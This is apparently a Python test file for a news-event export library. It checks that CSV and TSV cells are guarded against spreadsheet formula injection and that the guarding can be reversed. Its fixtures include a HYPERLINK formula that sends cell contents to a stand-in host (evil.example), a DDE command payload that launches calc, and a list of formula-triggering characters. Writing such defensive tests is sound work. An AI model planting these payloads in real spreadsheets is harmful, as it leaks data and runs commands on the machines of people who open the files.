"""No cell of a table that people open in spreadsheets is taken for a formula, and what was written can be had back."""

import csv
import io

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from khabar.exports import COLUMNS, guard_cell, open_writer, unguard_cell
from khabar.exports.columns import LIST, REAL, WHOLE
from khabar.model.reading import Place

DANGER = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"اضغط")'


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r\n1.ea ب;")) | st.text())
def test_what_was_written_can_be_had_back(text):
    assert unguard_cell(guard_cell(text)) == text


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r\n1.ea ب")))
def test_a_cell_begins_with_no_sign_unless_it_is_a_number(text):
    cell = guard_cell(text)
    if cell.startswith(DANGER):
        float(cell)


@pytest.mark.parametrize("number", [-4.5, 0, -1e-07, 12, "-4.5", "+3", "-1e-07", "2024-05-08", "", None])
def test_numbers_and_days_stay_as_they_are(number):
    assert guard_cell(number) == number


def hostile(reading):
    """Give a reading whose title, names and sentence begin as formulas do, at a place west and south of zero."""
    text = f"{FORMULA} قصفت القوات مواقع للمسلحين.\n-2+3+cmd|' /C calc'!A0 زار الوزير باماكو."
    event = reading.events[0]
    party = msgspec.structs.replace((*event.actors, *event.recipients)[0], name="@SUM(A1)", span=(0, 4))
    where = Place((5, 9), "+place", "MLI", 7, -12.65, -8.0)
    event = msgspec.structs.replace(
        event,
        actors=(party, party),
        recipients=(),
        where=where,
        trigger=(0, 4),
        chain=("قال", "=1+1"),
        said_in=None,
        intensity=-10.0,
    )
    outlet = msgspec.structs.replace(reading.article.outlet, name="@outlet")
    article = msgspec.structs.replace(reading.article, text=text, title="-title", url="=url", outlet=outlet)
    return msgspec.structs.replace(
        reading, article=article, events=(event,), attributions=(), classes=(), sentences=((0, text.index("\n")),)
    )


def cells(path, dialect="excel"):
    return list(csv.DictReader(io.StringIO(path.read_text("utf8"), newline=""), dialect=dialect))


@pytest.mark.parametrize(("name", "dialect"), [("e.csv", "excel"), ("e.polecat.tsv", "excel-tab")])
def test_no_cell_of_an_export_begins_as_a_formula(tmp_path, demo_readings, name, dialect):
    reading = hostile(next(r for r in demo_readings if r.events and (r.events[0].actors or r.events[0].recipients)))
    writer = open_writer(tmp_path / name)
    writer.write(reading)
    writer.close()
    (row,) = cells(tmp_path / name, dialect)
    for column, cell in row.items():
        for part in cell.split(";") if COLUMNS.get(column) == LIST else [cell]:
            if part.startswith(DANGER):
                assert column.lower() in ("longitude", "latitude", "intensity", "event intensity"), column
                float(part)
    if name == "e.csv":
        for column, kind in COLUMNS.items():
            if kind in (REAL, WHOLE) and row[column]:
                float(row[column])
        assert (float(row["longitude"]), float(row["intensity"])) == (-8.0, -10.0)
        assert unguard_cell(row["sentence"]) == reading.text(reading.sentences[0])
        assert [unguard_cell(one) for one in row["chain"].split(";")] == ["قال", "=1+1"]
        assert unguard_cell(row["place"]) == "+place"
    else:
        assert (row["Longitude"], row["Placename"]) == ("-8.0", "'+place")
